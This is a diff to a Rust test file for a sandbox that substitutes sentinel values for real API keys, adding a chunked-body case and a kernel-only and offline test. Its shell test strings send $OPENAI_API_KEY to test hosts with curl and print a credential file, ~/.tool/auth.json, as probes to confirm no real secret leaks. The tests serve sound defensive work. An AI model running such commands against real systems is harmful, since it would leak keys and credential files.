@@ -308,6 +308,9 @@ curl -sS --max-time 20 "https://inject.test:{port}/v1/models?key=$OPENAI_API_KEY
 # A body with the sentinel.
 curl -sS --max-time 20 "https://inject.test:{port}/v1/chat" -H 'Content-Type: application/json' \
   --data "{{\"k\":\"$OPENAI_API_KEY\",\"who\":\"curl-body\"}}" && echo
+# A chunked body: read whole, rewritten, sent with its length.
+curl -sS --max-time 20 "https://inject.test:{port}/v1/chunked" -H 'Transfer-Encoding: chunked' \
+  --data "chunked=$OPENAI_API_KEY" && echo
 # A server that echoes the key back hands the sandbox the sentinel, not the value.
 curl -sS --max-time 20 "https://inject.test:{port}/echo" -H "Authorization: Bearer $OPENAI_API_KEY" | grep -i '^authorization' | sed 's/^/ECHO /'
 # Python (urllib: HTTPS_PROXY, SSL_CERT_FILE).
@@ -352,7 +355,7 @@ https.get("https://inject.test:{port}/node", {{headers: {{authorization: "Bearer
     // grep -c printed 0 twice (environ and a child's env).
     assert_eq!(out.lines().filter(|l| *l == "0").count(), 2, "{t}");
     // Every client got the server's answer.
-    assert_eq!(out.matches("tls:inject").count(), 4, "{t}");
+    assert_eq!(out.matches("tls:inject").count(), 5, "{t}");
     assert!(
         out.lines()
             .any(|l| l.starts_with("ECHO ") && l.contains(&sentinel)),
@@ -382,6 +385,7 @@ https.get("https://inject.test:{port}/node", {{headers: {{authorization: "Bearer
         got.contains(&format!("{{\"k\":\"{REAL}\",\"who\":\"curl-body\"}}")),
         "{got}"
     );
+    assert!(got.contains(&format!("chunked={REAL}")), "{got}");
     assert!(got.contains("GET /py "), "{got}");
     assert!(got.contains("GET /node "), "{got}");
     assert!(
@@ -993,4 +997,54 @@ fn codex_talks_to_its_model_with_only_a_sentinel() {
         "{t}"
     );
     assert!(!t.contains(AGENT_REAL), "{t}");
+}
+
+#[test]
+fn without_the_interposer_and_offline_the_sentinel_still_stands_in() {
+    let w = World::new();
+    let port = w.inject.port;
+    // The kernel layer alone (as a static program meets it): the proxy variables.
+    let o = w
+        .h
+        .sandpit()
+        .env("REAL_SECOND_TOKEN", REAL_SECOND)
+        .args(["run", "--kernel-only", "--", "sh", "-c"])
+        .arg(format!(
+            "curl -sS --max-time 20 https://inject.test:{port}/ko -H \"Authorization: Bearer $OPENAI_API_KEY\"; echo; \
+             curl -sS --max-time 20 -o /dev/null -w 'leak %{{http_code}}\\n' http://other.test:{}/ko -H \"x: $OPENAI_API_KEY\""
+            , w.other.port
+        ))
+        .output()
+        .unwrap();
+    let t = text(&o);
+    assert!(o.status.success(), "{t}");
+    assert!(t.contains("tls:inject") && t.contains("leak 403"), "{t}");
+    assert!(
+        w.inject.received().contains(&format!("Bearer {REAL}")),
+        "{t}"
+    );
+    assert!(!w.other.received().contains("/ko"), "{t}");
+    // Offline: no proxy at all, and still only the sentinel inside.
+    let o =
+        w.h.sandpit()
+            .env("REAL_SECOND_TOKEN", REAL_SECOND)
+            .args([
+                "run",
+                "--network",
+                "offline",
+                "--",
+                "sh",
+                "-c",
+                "echo \"K=$OPENAI_API_KEY\"; cat ~/.tool/auth.json",
+            ])
+            .output()
+            .unwrap();
+    let t = text(&o);
+    assert!(o.status.success(), "{t}");
+    let out = String::from_utf8_lossy(&o.stdout).into_owned();
+    assert!(
+        sentinel_in(&out, "K").starts_with("sandpit-sentinel-openai-"),
+        "{t}"
+    );
+    assert!(!t.contains(REAL) && !t.contains(REAL_SECOND), "{t}");
 }
